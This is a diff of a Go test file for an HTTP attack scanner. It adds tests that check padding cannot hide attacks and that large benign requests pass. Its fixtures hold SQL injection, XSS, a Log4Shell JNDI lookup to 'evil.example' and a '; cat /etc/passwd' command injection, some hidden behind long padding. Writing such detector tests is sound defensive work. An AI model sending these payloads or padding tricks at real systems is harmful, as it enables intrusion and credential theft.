@@ -3,6 +3,7 @@ package attack
 import (
 	"bytes"
 	"errors"
+	"fmt"
 	"io"
 	"mime/multipart"
 	"net/http"
@@ -421,24 +422,191 @@ func TestScanBodyReadErrorIsReplayed(t *testing.T) {
 	}
 }
 
-func TestScanTooManyParams(t *testing.T) {
-	s := newScanner(t)
-	var q strings.Builder
-	for i := 0; i < MaxValues; i++ {
-		q.WriteString("k=v&")
+// blocks reports whether findings block at the default threshold with default weights.
+func blocks(fs []detect.Finding) bool { return detect.Combine(fs, nil) >= 80 }
+
+// paddingCases are the reviewer's reproductions of attacks hidden behind padding, and
+// their kin in bodies. The same table seeds FuzzScanPadding.
+var paddingCases = []struct {
+	name   string
+	method string
+	target string
+	ct     string
+	body   string
+	want   string // a code that must be found at 80 or more
+}{
+	{"h1_query_params", "GET", "/search?" + strings.Repeat("a=b&", 513) + "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "", CodeSQLi},
+	{"h1_query_2000_params", "GET", "/search?" + strings.Repeat("a=b&", 2000) + "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "", CodeSQLi},
+	{"h2_long_query_value", "GET", "/search?q=" + strings.Repeat("a", 8200) + "%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "", CodeSQLi},
+	{"h2_long_value_at_window_edge", "GET", "/search?q=" + strings.Repeat("a", WindowBytes-10) + "%27%20UNION%20SELECT%20username,password%20FROM%20users--", "", "", CodeSQLi},
+	{"h2_very_long_query_value", "GET", "/search?q=" + strings.Repeat("lorem+ipsum+", 9000) + "%3Cscript%3Ealert(1)%3C/script%3E", "", "", CodeXSS},
+	{"h2_long_cookie", "GET", "/", "", "", CodeSQLi}, // Cookie set below
+	{"form_body_params", "POST", "/login", "application/x-www-form-urlencoded", strings.Repeat("a=b&", 3000) + "user=admin%27%20OR%201%3D1--", CodeSQLi},
+	{"form_body_long_value", "POST", "/comment", "application/x-www-form-urlencoded", "text=" + strings.Repeat("a", 30000) + "%3Cscript%3Ealert(1)%3C/script%3E", CodeXSS},
+	{"json_body_long_string", "POST", "/api", "application/json", `{"note":"` + strings.Repeat("a", 30000) + `","q":"1' UNION SELECT password FROM users--"}`, CodeSQLi},
+	{"json_body_long_string_tail", "POST", "/api", "application/json", `{"note":"` + strings.Repeat("a", 30000) + ` ${jndi:ldap://evil.example/a}"}`, CodeLog4Shell},
+	{"json_body_many_keys", "POST", "/api", "application/json", `{` + strings.Repeat(`"a":1,"b":"c",`, 2000) + `"q":"<script>alert(1)</script>"}`, CodeXSS},
+	{"multipart_long_field", "POST", "/upload", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n" + strings.Repeat("a ", 10000) + "<script>alert(1)</script>\r\n--XyZ--\r\n", CodeXSS},
+	{"text_body_tail", "POST", "/", "text/plain", strings.Repeat("b", 20000) + " ; cat /etc/passwd", CodePathTraversal},
+}
+
+func paddingRequest(method, target, ct, body string) *http.Request {
+	var r *http.Request
+	if body == "" {
+		r = httptest.NewRequest(method, target, nil)
+	} else {
+		r = httptest.NewRequest(method, target, strings.NewReader(body))
+		r.Header.Set("Content-Type", ct)
 	}
-	q.WriteString("x=" + url.QueryEscape("<script>alert(1)</script>"))
-	fs, _ := s.Scan(nil, httptest.NewRequest("GET", "/?"+q.String(), nil))
-	if !hasCode(fs, CodeTooManyParams, 60) || !hasCode(fs, CodeProtocol, 40) {
-		t.Errorf("findings %+v, want too_many_params and protocol", fs)
+	return r
+}
+
+func TestScanPaddingCannotHideAttack(t *testing.T) {
+	s := newScanner(t)
+	for _, tc := range paddingCases {
+		t.Run(tc.name, func(t *testing.T) {
+			r := paddingRequest(tc.method, tc.target, tc.ct, tc.body)
+			if tc.name == "h2_long_cookie" {
+				r.Header.Set("Cookie", "pad="+strings.Repeat("x", 9000)+"; id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--")
+			}
+			fs, err := s.Scan(nil, r)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !hasCode(fs, tc.want, 80) || !blocks(fs) {
+				t.Errorf("score %d, findings %+v; want %s ≥ 80 and a block", detect.Combine(fs, nil), fs, tc.want)
+			}
+			for _, c := range []string{CodeTooManyParams, CodeValueTooLong, CodeBodyNotScanned} {
+				if hasCode(fs, c, 1) {
+					t.Errorf("%s on a request within the scan budget: %+v", c, fs)
+				}
+			}
+		})
 	}
 }
 
-func TestScanValueTooLong(t *testing.T) {
+func TestScanReviewerReproductionsWithoutPaddingBlock(t *testing.T) {
 	s := newScanner(t)
-	fs := s.ScanValue(nil, "query:q", strings.Repeat("a ", MaxValueBytes))
-	if diff := cmp.Diff([]string{CodeValueTooLong}, codes(fs, 1)); diff != "" {
-		t.Errorf("codes (-want +got):\n%s", diff)
+	fs, _ := s.Scan(nil, httptest.NewRequest("GET", "/search?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", nil))
+	if !hasCode(fs, CodeSQLi, 95) {
+		t.Errorf("findings %+v, want sqli 95", fs)
+	}
+}
+
+// TestScanLargeBenignRequestsAllowed keeps ordinary large requests under the default
+// block threshold.
+func TestScanLargeBenignRequestsAllowed(t *testing.T) {
+	var records strings.Builder
+	records.WriteString(`{"records":[`)
+	for i := 0; records.Len() < 200<<10; i++ {
+		if i > 0 {
+			records.WriteByte(',')
+		}
+		fmt.Fprintf(&records, `{"id":%d,"name":"Customer %d","email":"c%d@example.com","city":"Zürich","note":"Called on 2024-05-%02d; prefers e-mail, not phone."}`, i, i, i, i%28+1)
+	}
+	records.WriteString(`]}`)
+	var rich strings.Builder
+	for rich.Len() < 40<<10 {
+		rich.WriteString(`<p>Our <b>spring</b> collection is <i>here</i>: see <a href="https://shop.example.com/new">the new arrivals</a> &amp; save 20% today.</p>`)
+	}
+	var checks strings.Builder
+	for i := 0; i < 2000; i++ {
+		fmt.Fprintf(&checks, "ids%%5B%%5D=%d&", 100000+i)
+	}
+	checks.WriteString("action=delete&csrf=3f2a9c4e8b1d4e7a")
+
+	s := newScanner(t)
+	for _, tc := range []struct {
+		name, method, target, ct, body string
+		want                           []string // codes at or above 1
+	}{
+		{"json_upload_200k", "POST", "/api/import", "application/json", records.String(), []string{CodeBodyNotScanned}},
+		{"rich_text_field", "POST", "/admin/page", "application/x-www-form-urlencoded", "title=Spring&body=" + url.QueryEscape(rich.String()), nil},
+		{"rich_text_json", "POST", "/admin/page", "application/json", `{"body":"` + strings.ReplaceAll(rich.String(), `"`, `\"`) + `"}`, nil},
+		{"admin_form_2000_checkboxes", "POST", "/admin/bulk", "application/x-www-form-urlencoded", checks.String(), []string{CodeProtocol}},
+		{"query_2000_params", "GET", "/admin/bulk?" + checks.String(), "", "", []string{CodeProtocol}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			fs, err := s.Scan(nil, paddingRequest(tc.method, tc.target, tc.ct, tc.body))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if blocks(fs) {
+				t.Errorf("blocked (score %d): %+v", detect.Combine(fs, nil), fs)
+			}
+			var got []string
+			for _, f := range fs {
+				if f.Code != CodeXSS { // rich text may draw a weak xss signal
+					got = append(got, f.Code)
+				}
+			}
+			if diff := cmp.Diff(tc.want, got); diff != "" {
+				t.Errorf("codes (-want +got):\n%s\n%+v", diff, fs)
+			}
+		})
+	}
+}
+
+// TestScanOverBudget covers what lies beyond the scan budget: alone it is a moderate
+// signal; next to an attack indicator in the scanned part it blocks.
+func TestScanOverBudget(t *testing.T) {
+	s := newScanner(t)
+	pad := strings.Repeat("a=b&", s.budget()/2+16) // each pair costs two bytes
+	attack := "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"
+	weak := "img=../images/logo.png&" // path_traversal 70: an indicator, not a block
+	long := "q=" + strings.Repeat("a", s.budget()+16)
+	for _, tc := range []struct {
+		name   string
+		query  string
+		want   []string
+		blocks bool
+	}{
+		{"values_past_budget", pad + attack, []string{CodeProtocol, CodeTooManyParams}, false},
+		{"values_past_budget_with_indicator", weak + pad + attack, []string{CodePathTraversal, CodeProtocol, CodeTooManyParams}, true},
+		{"value_past_budget", long + attack[2:], []string{CodeValueTooLong}, false},
+		{"value_past_budget_with_indicator", weak + long, []string{CodePathTraversal, CodeValueTooLong}, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			fs, _ := s.Scan(nil, httptest.NewRequest("GET", "/?"+tc.query, nil))
+			if diff := cmp.Diff(tc.want, codes(fs, 1)); diff != "" {
+				t.Errorf("codes (-want +got):\n%s", diff)
+			}
+			if blocks(fs) != tc.blocks {
+				t.Errorf("blocks = %v (score %d), want %v: %+v", blocks(fs), detect.Combine(fs, nil), tc.blocks, fs)
+			}
+		})
+	}
+}
+
+func TestScanBodyPastBoundWithIndicatorBlocks(t *testing.T) {
+	s, err := New(Config{MaxBodyBytes: 1024})
+	if err != nil {
+		t.Fatal(err)
+	}
+	body := "img=../images/logo.png&pad=" + strings.Repeat("a", 2048) + "&q=" + url.QueryEscape("<script>alert(1)</script>")
+	r := httptest.NewRequest("POST", "/", strings.NewReader(body))
+	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	fs, _ := s.Scan(nil, r)
+	if !hasCode(fs, CodeBodyNotScanned, budgetScore) || !blocks(fs) {
+		t.Errorf("findings %+v, want body_not_scanned %d and a block", fs, budgetScore)
+	}
+}
+
+func TestScanValueExaminesLongValuesWhole(t *testing.T) {
+	s := newScanner(t)
+	for _, n := range []int{WindowBytes - 40, WindowBytes, WindowBytes + 1, 2*WindowBytes - WindowOverlap - 3, 5 * WindowBytes} {
+		fs := s.ScanValue(nil, "query:q", strings.Repeat("a ", n/2)+"<script>alert(1)</script>"+strings.Repeat(" b", n/2))
+		if diff := cmp.Diff([]string{CodeXSS}, codes(fs, 1)); diff != "" {
+			t.Errorf("length %d: codes (-want +got):\n%s", n, diff)
+		}
+	}
+	// A long value draws one finding per code, not one per window.
+	fs := s.ScanValue(nil, "query:q", strings.Repeat("<script>alert(1)</script> ", 2000))
+	if diff := cmp.Diff([]string{CodeXSS}, codes(fs, 1)); diff != "" {
+		t.Errorf("repeated payload: codes (-want +got):\n%s", diff)
+	}
+	if fs := s.ScanValue(nil, "query:q", strings.Repeat("a ", 4*WindowBytes)); len(fs) != 0 {
+		t.Errorf("long clean value: %+v", fs)
 	}
 }
 
